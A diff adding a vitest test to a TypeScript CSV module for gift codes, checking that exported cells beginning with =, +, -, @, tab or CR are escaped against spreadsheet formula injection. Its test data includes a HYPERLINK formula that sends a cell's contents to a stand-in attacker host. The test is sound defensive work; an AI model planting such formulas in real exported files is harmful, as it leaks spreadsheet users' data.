@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { AppError } from './app-error';
-import { CODE_CSV_COLUMNS, csvCells, linesAfterHeader, readCodeCsvHeader, readCodeCsvLine } from './code-csv';
+import { CODE_CSV_COLUMNS, codeCsvWriter, csvCells, linesAfterHeader, readCodeCsvHeader, readCodeCsvLine, type CodeCsvColumn } from './code-csv';
 
 const header = readCodeCsvHeader('product_slug,region,code,price_usd,price_rub,game_amount,popular');
 
@@ -47,6 +47,43 @@ describe('CSV columns of codes', () => {
   it('reads quoted fields, commas inside them included', () => {
     expect(csvCells('a,"b,c",d')).toEqual(['a', 'b,c', 'd']);
     expect(readCodeCsvLine(header, 'steam,,"GIFT,CODE ""9""",1,79,5,false')).toMatchObject({ code: 'GIFT,CODE "9"' });
+  });
+
+  it('exports a cell a spreadsheet would run as a formula as quoted text, and loads it back as it was', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', "'=QUOTED", "''-TWICE"];
+    const plain = ['STEAM-1', "'QUOTE-NOT-FORMULA", 'A=B', 'MID-DASH-9'];
+    const writer = codeCsvWriter();
+    const written = new Promise<string>((resolve, reject) => {
+      let text = '';
+      writer.on('data', (chunk: Buffer) => (text += chunk.toString()));
+      writer.on('end', () => resolve(text));
+      writer.on('error', reject);
+    });
+    const row = (code: string): Partial<Record<CodeCsvColumn, string | number>> => ({ product_slug: 'steam', code, price_usd: '1.00', price_rub: '79.00', game_amount: 5, status: 'available' });
+    for (const code of [...formulas, ...plain, '\tTAB', '\rCR']) writer.write(row(code));
+    writer.end();
+    const [exportedHeader = '', ...lines] = (await written).replace(/^\uFEFF/, '').split('\n').filter((line) => line !== '');
+
+    const codeCells = lines.map((line) => line.split(',')[4]);
+    expect(codeCells).toEqual([
+      '"\'=HYPERLINK(""http://evil.example/?""&A1)"',
+      '"\'+1+1"',
+      '"\'-2+3"',
+      '"\'@SUM(A1)"',
+      '"\'\'=QUOTED"',
+      '"\'\'\'-TWICE"',
+      ...plain,
+      '"\'\tTAB"',
+      '"\'\rCR"',
+    ]);
+
+    // An exported file loads back as it is (a code never begins with blanks: an import trims them).
+    const exported = readCodeCsvHeader(exportedHeader);
+    const reread = lines.slice(0, -2).map((line) => readCodeCsvLine(exported, line));
+    expect(reread.map((read) => ('code' in read ? read.code : read.error))).toEqual([...formulas, ...plain]);
+    // Typed into an import, such a code is stored exactly as typed: nothing runs on the server.
+    expect(readCodeCsvLine(header, 'steam,,"=HYPERLINK(""x"")",1,79,5,false')).toMatchObject({ code: '=HYPERLINK("x")' });
+    expect(readCodeCsvLine(header, 'steam,,@SUM(A1),1,79,5,false')).toMatchObject({ code: '@SUM(A1)' });
   });
 
   it('words what is wrong with a bad line', () => {
